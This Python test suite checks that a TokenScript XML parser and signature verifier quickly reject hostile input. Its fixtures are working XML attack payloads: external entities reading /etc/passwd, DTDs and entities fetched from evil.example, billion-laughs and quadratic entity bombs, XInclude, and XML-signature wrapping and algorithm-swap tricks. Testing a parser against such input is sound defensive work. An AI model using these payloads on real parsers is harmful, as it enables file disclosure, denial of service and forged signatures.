"""Hostile TSML: each is refused with a typed error within 100 ms of processor time.

Processor time, since other work on the machine must not make the tests fail; and the best of
three, since a first run pays for imports and caches.
"""

import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from node.errors import (
    ScriptInvalid,
    ScriptSignatureInvalid,
    ScriptUnsafe,
    ScriptUnsigned,
    TokenScriptError,
)
from node.tokenscript.parse import parse_signed, parse_unsigned
from node.tokenscript.signature import sign, verify
from settlement.protocol.signing import SigningKey

LIMIT_S = 0.1
KEY = SigningKey(bytes([9]) * 32)
HEAD = b'<ts:token xmlns:ts="http://tokenscript.org/2024/01/tokenscript" name="T">'
TAIL = b"</ts:token>"
PARTS = (
    b'<ts:contract name="C"><ts:address network="1">0x1111111111111111111111111111111111111111'
    b'</ts:address></ts:contract><ts:origins><ts:ethereum contract="C"/></ts:origins>'
    b'<ts:cards><ts:card name="A" type="token"/></ts:cards>'
)
GOOD = HEAD + PARTS + TAIL
SIGNED = sign(GOOD, KEY)
DTD = b'<!DOCTYPE t [<!ENTITY a "%s"%s>]>'


def wrap(inside: bytes) -> bytes:
    return HEAD + inside + TAIL


def many_attributes(count: int) -> bytes:
    return b"<a " + b" ".join(b'a%d=""' % at for at in range(count)) + b"/>"


def many_prefixes(count: int) -> bytes:
    return b"<a " + b" ".join(b'xmlns:p%d="urn:%d"' % (at, at) for at in range(count)) + b">"


UNSAFE = {
    "external entity": b'<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + wrap(b"&x;"),
    "external subset": b'<!DOCTYPE t SYSTEM "http://evil.example/x.dtd">' + GOOD,
    "parameter entity": b'<!DOCTYPE t [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]>' + GOOD,
    "empty DOCTYPE": b"<!DOCTYPE t>" + GOOD,
    "DOCTYPE after a comment": b"<!-- - --> <?pi?>\n<!DOCTYPE t>" + GOOD,
    "DOCTYPE after a BOM": b"\xef\xbb\xbf<!DOCTYPE t>" + GOOD,
    "billion laughs": b'<!DOCTYPE t [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(10))
    + b"]>"
    + wrap(b"&k;"),
    "quadratic blow-up": b'<!DOCTYPE t [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]>'
    + wrap(b"&a;" * 50_000),
    "XInclude": wrap(b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    "depth 200,000": wrap(b"<a>" * 200_000 + b"</a>" * 200_000),
    "depth 200": wrap(b"<a>" * 200 + b"</a>" * 200),
    "width 500,000": wrap(b"<a/>" * 500_000),
    "width just over": wrap(b"<a/>" * 60_000),
    "text and element nodes over": wrap(b"x<a/>" * 40_000),
    "150,000 attributes": wrap(many_attributes(150_000)),
    "100,000 namespaces": wrap(many_prefixes(100_000) + b"</a>"),
    "prefixes by elements": wrap(many_prefixes(200) + b"<b/>" * 30_000 + b"</a>"),
    "3 MiB": wrap(b"x" * (3 << 20)),
    "unbuilt placeholder": wrap(b"<ts:label>$tst{NAME}</ts:label>"),
    "Latin-1": b'<?xml version="1.0" encoding="ISO-8859-1"?>' + GOOD,
    "XML 1.1": b'<?xml version="1.1"?>' + GOOD,
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>' + GOOD,
}

BROKEN = {
    "nothing": b"",
    "binary": bytes(range(256)) * 100,
    "UTF-16": GOOD.decode().encode("utf-16"),
    "cut off": GOOD[:200],
    "two roots": GOOD + GOOD,
    "undefined entity": wrap(b"&nobody;"),
    "undefined prefix": wrap(b"<q:a/>"),
    "duplicate attribute": wrap(b'<a b="" b=""/>'),
    "endless comment": wrap(b"<!-- " + b"-" * 1_000_000),
    "endless comment before the root": b"<!--" + b"x" * 1_000_000,
    "endless instruction before the root": b"<?x" + b"x" * 1_000_000,
    "endless CDATA": wrap(b"<![CDATA[" + b"]" * 1_000_000),
    "bad character reference": wrap(b"&#0;"),
    "huge character reference": wrap(b"&#" + b"9" * 1_000_000 + b";"),
    "overlong UTF-8": wrap(b"\xc0\xbc"),
    "relative namespace": sign(GOOD, KEY).replace(b"<ts:cards>", b'<ts:cards xmlns:r="here">'),
}

WRAPPED = {
    "altered address": SIGNED.replace(b"0x1111", b"0x2222"),
    "altered name": SIGNED.replace(b'name="T"', b'name="U"'),
    "added element": SIGNED.replace(b"<ts:cards>", b"<ts:label/><ts:cards>"),
    "moved under a new root": HEAD + PARTS.replace(b"0x11", b"0x22") + SIGNED + TAIL,
    "two signatures": SIGNED.replace(
        b"</ds:Signature>",
        b"</ds:Signature>"
        + SIGNED[SIGNED.index(b"<ds:Sig") : SIGNED.index(b"</ds:Signature>") + 15],
    ),
    "original hidden in an Object": SIGNED.replace(
        b"</ds:KeyInfo>", b"</ds:KeyInfo><ds:Object Id='o'>" + GOOD + b"</ds:Object>"
    ).replace(b"<ds:Reference>", b'<ds:Reference URI="#o">'),
    "reference by XPointer": SIGNED.replace(
        b"<ds:Reference>", b'<ds:Reference URI="#xpointer(/)">'
    ),
    "reference to a URL": SIGNED.replace(
        b"<ds:Reference>", b'<ds:Reference URI="http://evil.example/">'
    ),
    "XSLT transform": SIGNED.replace(
        b"http://www.w3.org/2000/09/xmldsig#enveloped-signature",
        b"http://www.w3.org/TR/1999/REC-xslt-19991116",
    ),
    "HMAC with the public key": SIGNED.replace(b"#ecdsa-sha256", b"#hmac-sha256"),
    "SHA-1": SIGNED.replace(b"xmlenc#sha256", b"xmlenc#sha1"),
    "signature under a comment's shadow": SIGNED.replace(
        b"<ds:DigestValue>", b"<ds:DigestValue><!-- x --><b/>"
    ),
    "point off the curve": SIGNED.replace(b"<ecdsa:X>", b"<ecdsa:X>AAAA"),
    "zero signature": SIGNED[: SIGNED.index(b"<ds:SignatureValue>") + 19]
    + b"A" * 86
    + b"=="
    + SIGNED[SIGNED.index(b"</ds:SignatureValue>") :],
}


def refuse(work: Callable[[], object], error: type[TokenScriptError]) -> None:
    """``work`` raises ``error``, in under the limit at best."""
    times = []
    for _ in range(3):
        start = time.process_time()
        with pytest.raises(error):
            work()
        times.append(time.process_time() - start)
    assert min(times) <= LIMIT_S


@pytest.mark.parametrize("xml", UNSAFE.values(), ids=UNSAFE.keys())
def test_what_is_unsafe_to_read_is_refused_unread(xml: bytes) -> None:
    refuse(lambda: verify(xml), ScriptUnsafe)
    refuse(lambda: parse_unsigned(xml), ScriptUnsafe)


@pytest.mark.parametrize("xml", BROKEN.values(), ids=BROKEN.keys())
def test_what_is_not_well_formed_is_refused_with_its_place(xml: bytes) -> None:
    refuse(lambda: verify(xml), ScriptInvalid)


@pytest.mark.parametrize("xml", WRAPPED.values(), ids=WRAPPED.keys())
def test_an_altered_or_wrapped_signature_is_refused(xml: bytes) -> None:
    assert xml != SIGNED
    refuse(lambda: verify(xml), ScriptSignatureInvalid)


def test_an_unsigned_script_is_refused() -> None:
    refuse(lambda: verify(GOOD), ScriptUnsigned)


def test_a_comment_slipped_into_an_address_changes_nothing() -> None:
    slipped = SIGNED.replace(b"0x1111", b"0x1111<!-- and now for something else -->")
    verified = verify(slipped)
    assert verified.signer == KEY.address
    assert verified.canonical == verify(SIGNED).canonical
    contract = parse_signed(verified).contract("C")
    assert contract is not None
    assert contract.addresses[0].address == bytes([0x11]) * 20


SLOW = {
    "characters by reference": wrap(b"<ts:label>" + b"&#65;" * 400_000 + b"</ts:label>"),
    "comments": wrap(b"<!-- -->x" * 90_000),
    "CDATA sections": wrap(b"<![CDATA[x]]>" * 90_000),
    "instructions": wrap(b"<?a b?>" * 90_000),
    "wide and attributed": wrap((many_attributes(200)) * 900),
    "default namespaces, deep and wide": wrap(
        b"".join(b'<x xmlns="urn:%d">' % at for at in range(120)) + b"<a/>" * 20_000 + b"</x>" * 120
    ),
    "a name of a megabyte": wrap(b"<" + b"a" * 1_000_000 + b"/>"),
    "an attribute of two megabytes": wrap(b'<a b="' + b"&amp;" * 400_000 + b'"/>'),
}


@pytest.mark.parametrize("xml", SLOW.values(), ids=SLOW.keys())
def test_what_is_within_the_limits_but_awkward_is_refused_in_time(xml: bytes) -> None:
    refuse(lambda: verify(xml), TokenScriptError)
    refuse(lambda: parse_unsigned(xml), TokenScriptError)


@given(
    st.integers(0, len(GOOD)),
    st.integers(0, 40),
    st.one_of(
        st.binary(max_size=8),
        st.sampled_from(
            [b"<", b"</", b"/>", b"&", b"<![CDATA[", b"<!--", b'"', b"ts:", b"xmlns=''"]
        ),
    ),
)
@settings(max_examples=300, deadline=None)
def test_any_damage_leaves_a_script_or_a_typed_error(at: int, cut: int, put: bytes) -> None:
    damaged = GOOD[:at] + put + GOOD[at + cut :]
    try:
        parse_unsigned(damaged)
    except TokenScriptError as error:
        assert error.code.startswith("SL-40")  # noqa: PT017 - a script is as good an outcome
